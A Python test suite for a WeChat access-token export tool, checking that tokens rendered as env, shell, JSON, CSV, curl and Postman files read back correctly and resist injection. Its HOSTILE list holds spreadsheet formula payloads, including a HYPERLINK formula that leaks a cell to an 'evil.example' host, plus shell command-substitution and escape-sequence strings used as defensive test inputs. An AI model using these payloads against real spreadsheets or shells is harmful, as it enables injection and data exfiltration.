"""Tokens in the forms that other programs take in, read back by those programs' own readers."""

import csv
import io
import json
import shlex
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from io import StringIO

import pytest
from dotenv import dotenv_values
from hypothesis import given
from hypothesis import strategies as st

from wxconsole.domain.account import Account, Endpoint, Kind
from wxconsole.domain.exports import Format, render
from wxconsole.domain.problem import Misuse, Problem
from wxconsole.domain.secret import Secret
from wxconsole.domain.text import sanitise
from wxconsole.domain.token import Token

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
BASE = "https://api.weixin.qq.com"
APPID = "wx0123456789abcdef"

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "$(touch /tmp/x)",
    "`touch /tmp/x`",
    "'; touch /tmp/x; '",
    '"; touch /tmp/x; "',
    "a\nexport X=1",
    "a\r\nb",
    "a,b;c",
    '"',
    "'",
    "\\",
    "\x1b]0;title\a",
    "\x9b31m",
    "\u202eevil",
    "\u2028",
    "\0",
    "花店 🌸",
    "#",
    "</script>",
    "{{x}}",
]
FORMATS = list(Format)

alias = st.from_regex(r"[a-z0-9][a-z0-9-]{0,31}", fullmatch=True)
value = st.from_regex(r"[A-Za-z0-9_-]{1,512}", fullmatch=True)
no_formula = value.filter(lambda text: not text.startswith("-"))
name = st.text(st.characters(exclude_categories=[])) | st.sampled_from(HOSTILE)


def account(alias: str = "shop", name: str = "", appid: str = APPID) -> Account:
    return Account(alias, appid, Secret("0123456789abcdef" * 2), name, Kind.MINIPROGRAM)


def token(value: str = "85_abc-DEF", seconds: int = 7200) -> Token:
    return Token(Secret(value), NOW, NOW + timedelta(seconds=seconds), Endpoint.STABLE)


def text(form: Format, *tokens: tuple[Account, Token], base: str = BASE) -> str:
    return render(form, tokens, NOW, base).reveal()


def test_token_is_the_bare_value() -> None:
    assert text(Format.TOKEN, (account(), token())) == "85_abc-DEF\n"


def test_tokens_of_several_accounts_are_one_a_line() -> None:
    assert text(Format.TOKEN, (account("a"), token("x")), (account("b"), token("y"))) == "x\ny\n"


@given(alias, value)
def test_env_reads_back_in_python_dotenv(alias: str, value: str) -> None:
    stem = f"WX_{alias.upper().replace('-', '_')}"
    read = dotenv_values(stream=StringIO(text(Format.ENV, (account(alias), token(value)))))
    assert read == {f"{stem}_ACCESS_TOKEN": value, f"{stem}_EXPIRES_AT": "2026-11-22T14:00:00Z"}


@given(alias, value)
def test_env_has_no_quotes_which_docker_would_keep(alias: str, value: str) -> None:
    assert not set(text(Format.ENV, (account(alias), token(value)))) & set("'\"\\$ ")


@pytest.mark.parametrize("shell", ["bash", "dash", "sh"])
def test_shell_reads_back_in_every_shell(shell: str) -> None:
    if shutil.which(shell) is None:
        pytest.skip(f"no {shell} here")
    tokens = [
        (account(f"a-{number}", name), token(value))
        for number, (name, value) in enumerate(
            zip(HOSTILE, ["-n", "--help", "_", "x" * 512, "85_a-B"] * 6, strict=False)
        )
    ]
    printing = "".join(
        f'printf "%s %s\\n" "$WX_A_{number}_ACCESS_TOKEN" "$WX_A_{number}_EXPIRES_AT"\n'
        for number in range(len(tokens))
    )
    # A shell below this one prints: what is not exported does not get there.
    script = f"{text(Format.SHELL, *tokens)}{shell} <<'END'\n{printing}END\n"
    done = subprocess.run([shell], input=script, capture_output=True, text=True, check=True)
    assert done.stderr == ""
    assert done.stdout.split("\n")[:-1] == [
        f"{token.value.reveal()} 2026-11-22T14:00:00Z" for _, token in tokens
    ]


@given(name, value)
def test_json_reads_back_with_the_name_made_safe(name: str, value: str) -> None:
    read = json.loads(text(Format.JSON, (account(name=name), token(value))))
    assert read == {
        "generated_at": "2026-11-22T12:00:00Z",
        "accounts": [
            {
                "alias": "shop",
                "name": sanitise(name),
                "appid": APPID,
                "kind": "miniprogram",
                "endpoint": "stable",
                "access_token": value,
                "issued_at": "2026-11-22T12:00:00Z",
                "expires_at": "2026-11-22T14:00:00Z",
                "expires_in": 7200,
                "fingerprint": token(value).fingerprint,
            }
        ],
    }


def test_json_gives_a_token_that_is_over_no_time_left() -> None:
    read = json.loads(text(Format.JSON, (account(), token(seconds=-5))))
    assert read["accounts"][0]["expires_in"] == 0


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_has_no_cell_that_a_spreadsheet_would_run(name: str) -> None:
    written = text(Format.CSV, (account(name=name, appid=name), token()))
    (row,) = csv.DictReader(io.StringIO(written, newline=""))
    assert not any(cell.strip().startswith(tuple("=+-@＝＋－＠")) for cell in row.values())


@given(name, name, no_formula)
def test_csv_reads_back_and_no_cell_is_a_formula(name: str, appid: str, value: str) -> None:
    written = text(Format.CSV, (account(name=name, appid=appid), token(value)))
    (row,) = csv.DictReader(io.StringIO(written, newline=""), strict=True)
    assert row["access_token"] == value
    assert row["name"].removeprefix("'") == sanitise(name).removeprefix("'")
    assert row["expires_at"] == "2026-11-22T14:00:00Z"
    assert not any(cell.strip().startswith(tuple("=+-@＝＋－＠\t\r\n")) for cell in row.values())


def test_csv_quotes_every_cell() -> None:
    lines = text(Format.CSV, (account(), token())).split("\r\n")
    assert lines[0] == ('"alias","name","appid","kind","endpoint","access_token","issued_at","expires_at"')
    assert lines[1].startswith(f'"shop","","{APPID}","miniprogram","stable","85_abc-DEF",')


def test_csv_refuses_a_token_that_would_be_a_formula_rather_than_change_it() -> None:
    with pytest.raises(Problem) as caught:
        text(Format.CSV, (account(), token("-abc")))
    assert (caught.value.key, caught.value.params) == ("export_token_formula", {"alias": "shop"})


def test_curl_is_a_command_that_calls_the_configured_api() -> None:
    comment, command = text(
        Format.CURL, (account(), token("85_x")), base="http://127.0.0.1:8080"
    ).splitlines()
    assert comment == "# shop"
    assert shlex.split(command) == [
        "curl",
        "-sS",
        "http://127.0.0.1:8080/cgi-bin/get_api_domain_ip?access_token=85_x",
    ]


def test_curl_stays_one_word_whatever_the_base_holds() -> None:
    written = text(Format.CURL, (account(), token("x")), base="https://h/$(id)'&y")
    assert shlex.split(written.splitlines()[1])[2:] == [
        "https://h/$(id)'&y/cgi-bin/get_api_domain_ip?access_token=x"
    ]


def test_http_has_one_environment_for_each_account() -> None:
    written = text(Format.HTTP, (account("a"), token("x")), (account("b", appid="wx9"), token("y")))
    assert json.loads(written) == {
        "a": {"host": BASE, "appid": APPID, "access_token": "x"},
        "b": {"host": BASE, "appid": "wx9", "access_token": "y"},
    }


def test_postman_marks_the_token_as_secret() -> None:
    read = json.loads(text(Format.POSTMAN, (account(), token("x"))))
    assert (read["name"], read["_postman_variable_scope"]) == ("wxconsole shop", "environment")
    assert {each["key"]: (each["value"], each["type"]) for each in read["values"]} == {
        "host": (BASE, "default"),
        "appid": (APPID, "default"),
        "access_token": ("x", "secret"),
    }


def test_postman_tells_several_accounts_apart_by_alias() -> None:
    read = json.loads(text(Format.POSTMAN, (account("a"), token("x")), (account("b"), token("y"))))
    values = {each["key"]: each["value"] for each in read["values"]}
    assert (values["a_access_token"], values["b_access_token"]) == ("x", "y")


@pytest.mark.parametrize("form", FORMATS)
@given(name=name, appid=name)
def test_no_control_character_of_a_name_gets_into_any_form(form: Format, name: str, appid: str) -> None:
    written = text(form, (account(name=name, appid=appid), token()))
    assert all(sanitise(line) == line for line in written.replace("\r\n", "\n").split("\n"))
    written.encode()


@pytest.mark.parametrize("form", FORMATS)
def test_no_form_holds_an_appsecret(form: Format) -> None:
    assert account().secret.reveal() not in text(form, (account(), token()))


@pytest.mark.parametrize("form", FORMATS)
def test_every_form_ends_with_a_line_break_and_is_kept_secret(form: Format) -> None:
    rendered = render(form, [(account(), token())], NOW, BASE)
    assert rendered.reveal().endswith("\n")
    assert "85_abc-DEF" not in repr(rendered) + str(rendered)


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("bad", ["", "a b", "a\nb", "a'b", "$(x)", "x" * 513])
def test_what_is_no_token_is_in_no_form(form: Format, bad: str) -> None:
    with pytest.raises(Problem) as caught:
        text(form, (account(), token(bad)))
    assert caught.value.key == "export_token_malformed"


@pytest.mark.parametrize("form", FORMATS)
def test_what_is_no_alias_is_in_no_form(form: Format) -> None:
    with pytest.raises(Misuse):
        text(form, (account("x;touch /tmp/x"), token()))


def test_every_form_has_a_file_name_of_its_own() -> None:
    assert len({form.filename for form in Format}) == len(Format)
    assert Format.HTTP.filename == "http-client.env.json"
